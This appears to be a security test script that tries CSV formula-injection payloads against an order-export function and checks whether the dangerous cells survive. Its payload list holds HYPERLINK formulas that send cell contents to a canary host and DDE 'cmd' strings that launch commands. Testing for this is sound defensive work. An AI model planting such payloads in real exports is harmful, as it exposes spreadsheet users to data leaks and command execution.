import csv
import io

from _harness import canary, load, run_exploits

export = load("export")
tag = canary()
# Formula-injection shapes (OWASP CSV injection): each trigger character, leading whitespace and
# full-width variants some spreadsheet programs normalise.
payloads = {
    "equals": f'=HYPERLINK("http://{tag}.example/?"&A1,"invoice")',
    "plus": f"+cmd|' /C calc {tag}'!A0",
    "minus": f"-2+3+cmd|' /C {tag}'!A0",
    "at": f"@SUM(1+1)*cmd|' /C {tag}'!A0",
    "tab": f'\t=HYPERLINK("http://{tag}.example/")',
    "cr": f'\r=HYPERLINK("http://{tag}.example/")',
    "space": f' =HYPERLINK("http://{tag}.example/")',
    "fullwidth": f'\uff1dHYPERLINK("http://{tag}.example/")',
}
TRIGGERS = ("=", "+", "-", "@", "\uff1d")


def attempt(field, value):
    def run():
        order = {"id": 9, "customer": "Mal", "sku": "MUG-01", "quantity": 1, "total": "1.00", "note": ""}
        order[field] = value
        try:
            text = export.export_csv([order])
        except ValueError:  # refusing the order is a defence, not an error of the exploit
            return False
        rows = list(csv.reader(io.StringIO(text, newline="")))
        return any(tag in c and c.strip(" \t\r\n").startswith(TRIGGERS) for row in rows[1:] for c in row)
    return run


def control():
    order = {"id": 9, "customer": "Ann Lee", "sku": "MUG-01", "quantity": 2, "total": "19.90", "note": tag}
    rows = list(csv.reader(io.StringIO(export.export_csv([order]), newline="")))
    return rows[1:] == [["9", "Ann Lee", "MUG-01", "2", "19.90", tag]]


run_exploits([(f"{f}-{k}", attempt(f, v)) for f in ("customer", "note", "sku") for k, v in payloads.items()], control)
